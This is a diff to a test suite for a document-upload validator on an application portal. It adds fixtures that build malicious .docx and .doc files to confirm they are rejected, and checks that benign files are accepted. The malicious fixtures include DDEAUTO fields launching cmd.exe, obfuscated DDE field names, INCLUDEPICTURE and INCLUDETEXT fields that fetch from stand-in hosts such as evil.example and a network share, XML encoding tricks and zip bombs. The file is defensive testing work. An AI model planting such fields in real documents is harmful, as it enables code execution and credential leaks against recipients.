@@ -19,6 +19,29 @@ const flagsOf = async () =>
   (await portal.db.row<{ flags: string[] }>(sql`select flags from application_documents where application_id = ${person.id} and kind = 'cv'`))?.flags
 
 const rels = (inside: string) => docx({ 'word/_rels/document.xml.rels': relations(inside) })
+const wordXml = (inside: string) => `<w:document xmlns:w="x"><w:body><w:p>${inside}</w:p></w:body></w:document>`
+const body = (inside: string) => docx({ 'word/document.xml': wordXml(inside) })
+const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
+const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+const close = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+const fieldOf = (...words: string[]) =>
+  `${begin}${words.map(run).join('<w:r><w:t/></w:r>')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>${close}`
+const field = (...words: string[]) => body(fieldOf(...words))
+const HOME = [
+  'PAGE',
+  'HYPERLINK "https://x.example"',
+  'INCLUDEPICTURE "C:\\\\Users\\\\photo.png" \\* MERGEFORMAT',
+  'INCLUDEPICTURE "cid:image001.png@01"',
+  'DDEX y',
+]
+const many = (count: number, listing: (at: number) => string) =>
+  Object.fromEntries(Array.from({ length: count }, (_, at) => [`word/_rels/header${at}.xml.rels`, listing(at)]))
+/** A compound file whose directory follows upon itself. */
+const round = () => {
+  const bytes = compound(['Workbook'])
+  bytes.writeUInt32LE(1, 512 + 4)
+  return bytes
+}
 const external = (kind: string, target = 'https://evil.example/x.dotm') => rels(relation(kind, target, true))
 
 describe('T13 T14 what is refused, and in which words', () => {
@@ -58,6 +81,18 @@ describe('T13 T14 what is refused, and in which words', () => {
       ['a part that is no deflate', docx({}, [{ name: 'word/x.xml', data: 'x'.repeat(100), packed: Buffer.from('ffffffff', 'hex') }]), 'damaged'],
       ['a part named twice', docx({}, [{ name: 'WORD/document.xml', data: '<x/>' }]), 'damaged'],
       ['relations with a grammar of their own', docx({ 'word/_rels/document.xml.rels': `<!DOCTYPE x [<!ENTITY e "External">]>${relations()}` }), 'damaged'],
+      ['relations with an instruction', rels('<?x y?>'), 'damaged'],
+      ['relations with CDATA', rels('<![CDATA[x]]>'), 'damaged'],
+      ['relations that say UTF-7', docx({ 'word/_rels/document.xml.rels': relations().replace('UTF-8', 'UTF-7') }), 'damaged'],
+      ['an attribute named twice', rels('<Relationship TargetMode="Internal" TargetMode="External"/>'), 'damaged'],
+      ['a remark that never ends', docx({ '[Content_Types].xml': '<!--'.repeat(32_000) }), 'damaged'],
+      ['tags that never end', rels('<Relationship '.repeat(9_000)), 'damaged'],
+      ['a name without end', docx({ '[Content_Types].xml': `<Default ${'a'.repeat(130_000)}>` }), 'damaged'],
+      ['quotes that never end', rels(`<Relationship ${"a='".repeat(40_000)}`), 'damaged'],
+      ['a directory that goes round', round(), 'damaged'],
+      ['text in UTF-16', docx({ 'word/document.xml': Buffer.from(`\ufeff${wordXml('')}`, 'utf16le') }), 'damaged'],
+      ['text with a grammar of its own', docx({ 'word/document.xml': `<!DOCTYPE x [<!ENTITY e "DDE">]>${wordXml('')}` }), 'damaged'],
+      ['text that says UTF-7', docx({ 'word/document.xml': `<?xml version="1.0" encoding="utf-7"?>${wordXml('')}` }), 'damaged'],
       ['relations in UTF-16', docx({ 'word/_rels/document.xml.rels': Buffer.from(`\ufeff${relations()}`, 'utf16le') }), 'damaged'],
     ],
     'has hidden parts': [
@@ -105,6 +140,19 @@ describe('T13 T14 what is refused, and in which words', () => {
       ['an ActiveX control', docx({ 'word/activeX/activeX1.bin': 'x' }), 'macros'],
       ['a compound file under another name', docx({ 'word/media/image1.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') }), 'macros'],
       ['a program under another name', docx({ 'word/media/image1.png': Buffer.from('4d5a9000', 'hex') }), 'macros'],
+      ['a field that runs a program', field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), 'macros'],
+      ['a field that runs a program, in three runs', field(' DD', 'EA', 'UTO c:\\\\cmd.exe'), 'macros'],
+      ['a field that runs a program, spelled', field('D&#68;E <![CDATA[x]]>'), 'macros'],
+      ['a field that runs a program, in one tag', body(`<w:fldSimple w:instr='  ddeauto c:\\cmd'/>`), 'macros'],
+      ['a field that nobody closes', body('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x y</w:instrText>'), 'macros'],
+      ['a field whose name another works out', body(`${begin}${run('QUOTE 68 68 69')}${close}${run('x y')}${close}`.replace(begin, begin + begin)), 'macros'],
+      ['a picture fetched by a field', field('INCLUDEPICTURE "http://evil.example/t.png" \\d'), 'macros'],
+      ['a picture fetched from a share', field('INCLUDEPICTURE \\d \\\\\\\\evil\\\\t.png'), 'macros'],
+      ['a picture fetched from where another field says', body(`${begin}${run('INCLUDEPICTURE "')}${begin}${run('QUOTE 1')}${close}${close}`), 'macros'],
+      ['a text fetched by a field of a header', docx({ 'word/header1.xml': wordXml(fieldOf('INCLUDETEXT file://evil/x.docx')) }), 'macros'],
+      ['a text fetched by a field of a footnote', docx({ 'word/footnotes.xml': wordXml(fieldOf('INCLUDETEXT “ftp://evil/x”')) }), 'macros'],
+      ['a field in a part named otherwise', docx({ 'word/x.bin': wordXml(fieldOf('DDE a b')) }), 'macros'],
+      ['a zip in a zip', docx({ 'word/media/image1.png': docx() }), 'macros'],
       ['a .doc with macros', compound(['WordDocument', 'Macros', 'VBA']), 'macros'],
       ['a .doc with a package', compound(['WordDocument', 'ObjectPool', '\u0001Ole10Native']), 'macros'],
     ],
@@ -113,11 +161,10 @@ describe('T13 T14 what is refused, and in which words', () => {
       ['a .docx with a password', compound(['EncryptedPackage', 'EncryptionInfo']), 'locked'],
       ['a zip with a password', docx({}, [{ name: 'word/x.xml', data: 'x', flags: 1 }]), 'locked'],
     ],
-    'is larger inside': [
+    'is larger inside, or in more parts than any': [
       ['a bomb with its true size', docx({ 'word/x.xml': Buffer.alloc(51 * 1_048_576) }), 'unpacked'],
       ['a bomb under 50 MB, a hundred to one', docx({ 'word/x.xml': Buffer.alloc(20 * 1_048_576) }), 'unpacked'],
       ['a bomb that lies about its size', docx({}, [{ name: 'word/x.xml', data: Buffer.alloc(60 * 1_048_576), claimed: 1_000 }]), 'unpacked'],
-      ['a zip in a zip', docx({ 'word/media/image1.png': docx() }), 'unpacked'],
       [
         '65,535 parts',
         docx(
@@ -132,9 +179,11 @@ describe('T13 T14 what is refused, and in which words', () => {
           {},
           Array.from({ length: 1_997 }, (_, at) => ({ name: `w/${at}`, data: '', stored: true })),
         ),
-        'unpacked',
+        'complex',
       ],
-      ['listings without end', docx({ '[Content_Types].xml': contentTypes(' '.repeat(1_048_576)) }), 'unpacked'],
+      ['a listing of more than 128 KB', docx({ '[Content_Types].xml': contentTypes(' '.repeat(131_072)) }), 'complex'],
+      ['more than 32 listings', docx(many(31, () => relations())), 'complex'],
+      ['listings of more than 512 KB together', docx(many(5, () => relations(' '.repeat(130_000)))), 'complex'],
     ],
     'is too large a picture': [
       ['a PNG of 60,000 by 60,000', png({ width: 60_000, height: 60_000 }), 'tooManyPixels'],
@@ -148,11 +197,12 @@ describe('T13 T14 what is refused, and in which words', () => {
       for (const [what, bytes, word] of files) {
         test(`T13 ${what}: '${String(DOCUMENT_WORDS[word])}'`, async () => {
           const before = keptFiles(portal).length
-          const began = performance.now()
+          const began = process.cpuUsage()
           const answer = await person.upload(bytes, 'cv.docx')
           const expected = word === 'tooLarge' ? [413, [DOCUMENT_WORDS.tooLarge]] : [422, [DOCUMENT_WORDS[word]]]
           assert.deepEqual([answer.status, answer.json.file], expected, answer.text)
-          assert.ok(performance.now() - began < 2_000)
+          const { user, system } = process.cpuUsage(began)
+          assert.ok(user + system < 1_500_000, `${user + system} µs of the processor`)
           assert.deepEqual([keptFiles(portal).length, arrivingFiles(portal)], [before, []])
         })
       }
@@ -200,6 +250,11 @@ describe('T13 what is taken', () => {
     ],
     ['a .docx with the word External in its text', docx({ 'word/document.xml': '<w:t>TargetMode="External" macroEnabled vbaProject.bin</w:t>' })],
     ['a .docx with a remark in its relations', rels(`<!-- ${relation('attachedTemplate', 'x', true)} -->`)],
+    ['a .docx with fields that stay at home', body(HOME.map((words) => fieldOf(words)).join('') + '<w:fldSimple w:instr="NUMPAGES"/>')],
+    ['a .docx with a field in the result of another', body(fieldOf('TOC').replace('<w:t>1</w:t></w:r>', `<w:t>1</w:t></w:r>${fieldOf('PAGEREF _1')}`))],
+    ['a .docx whose text speaks of fields', body('<w:r><w:t>DDEAUTO INCLUDEPICTURE "http://x.example"</w:t></w:r>')],
+    ['a .docx with a long citation', field('ADDIN CSL_CITATION ', `{"url":"http://x.example/${'a'.repeat(200_000)}"}`)],
+    ['a .docx with a drawing from elsewhere', docx({ 'word/media/image1.svg': '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>' })],
     ['a .doc with an empty object pool', compound(['WordDocument', '1Table', 'ObjectPool'])],
     ['a PDF with bytes behind its end', Buffer.concat([pdf(), Buffer.alloc(2_000, '\n')])],
     ['a PNG of exactly 40,000,000 pixels', png({ width: 8_000, height: 5_000 })],
